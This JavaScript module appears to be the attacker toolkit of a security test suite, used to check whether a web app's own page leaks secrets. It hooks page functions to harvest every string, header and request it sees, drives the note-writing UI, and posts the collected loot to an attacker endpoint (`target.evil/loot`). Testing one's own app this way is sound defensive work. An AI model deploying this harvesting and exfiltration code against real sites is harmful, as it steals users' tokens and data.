/**
 * What an attacker brings along. Runs in the page, before every script of its own, so it stands alone.
 *
 * Nothing here knows a token: it keeps all that it sees, by the place where it was seen, and whoever runs the attack
 * looks for the genuine secrets in that. So the same attack robs a weak page, and the day it robs ours, ours is weak.
 *
 * `target` says where the victim's worker script is (`script`), where the attacker listens (`evil`), and where on the
 * victim's own origin a script of the attacker's lies (`upload`); `echo` and `redirect` are careless handlers of its
 * server, and `note` is what to write, where that matters.
 */
export function tools(target) {
  const loot = new Map();
  const { fetch, setTimeout, JSON, ArrayBuffer, Headers, Request } = window;
  const stringify = JSON.stringify;
  const fromCharCode = String.fromCharCode;

  const latin1 = (value) => {
    const bytes = value instanceof ArrayBuffer ? new Uint8Array(value) : new Uint8Array(value.buffer, value.byteOffset, value.byteLength);
    let text = '';
    for (let at = 0; at < bytes.length && at < 200_000; at++) text += fromCharCode(bytes[at]);
    return text;
  };
  /** Keeps every text in `value`, as deep as it goes. */
  const keep = (place, value, depth = 0) => {
    if (depth > 6 || value === null || value === undefined) return;
    if (!loot.has(place)) loot.set(place, new Set());
    if (typeof value === 'string') loot.get(place).add(value);
    else if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) loot.get(place).add(latin1(value));
    else if (value instanceof Headers) for (const pair of value) keep(place, pair, depth + 1);
    else if (value instanceof Request) keep(place, [value.url, value.headers], depth + 1);
    else if (value instanceof Error) keep(place, [value.name, value.message, value.stack], depth + 1);
    else if (typeof value === 'object') {
      for (const key of Object.getOwnPropertyNames(value)) {
        try {
          keep(place, value[key], depth + 1);
        } catch {}
      }
    }
  };
  /** Hears what goes into a function and what comes out of it. */
  const wrap = (owner, name) => {
    const original = owner?.[name];
    if (typeof original !== 'function') return;
    owner[name] = new Proxy(original, {
      apply(target, self, args) {
        keep(name, args);
        const result = Reflect.apply(target, self, args);
        if (result instanceof Promise) then.call(result, (value) => keep(name, value), () => {});
        else keep(name, result);
        return result;
      },
      construct(target, args, newTarget) {
        keep(name, args);
        return Reflect.construct(target, args, newTarget === owner[name] ? target : newTarget);
      },
    });
  };
  const { then } = Promise.prototype;
  const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  /** What came of an attempt: what `act` says, or the name of what it threw. A silence is not taken for a refusal. */
  const attempt = (act, patience = 5000) => {
    const patient = pause(patience).then(() => 'silence');
    // What the debugger calls may use eval; what a timer calls is the page's own.
    const tried = pause(0).then(act).then((said) => said ?? 'done', (error) => error?.name ?? 'error');
    return Promise.race([tried, patient]);
  };
  /** Makes the application work, as a person would: writes a note, and waits until the page shows it. */
  const work = async (text = target.note ?? `note ${Math.random()}`, patience = 5000) => {
    document.querySelector('#write [name=text]').value = text;
    document.querySelector('#write button').click();
    for (const end = performance.now() + patience; performance.now() < end; await pause(20)) {
      if (document.querySelector('#notes .text')?.textContent === text) return 'written';
    }
    return 'not written';
  };
  /** All that was seen, sent to the attacker as far as the page lets it go. */
  const deliver = async () => {
    const seen = Object.fromEntries([...loot].map(([place, texts]) => [place, [...texts]]));
    const sent = fetch(`${target.evil}/loot`, { method: 'POST', mode: 'no-cors', body: stringify(seen) });
    await Promise.race([sent.catch(() => {}), pause(3000)]);
    return seen;
  };
  return { ...target, keep, wrap, pause, attempt, work, deliver };
}
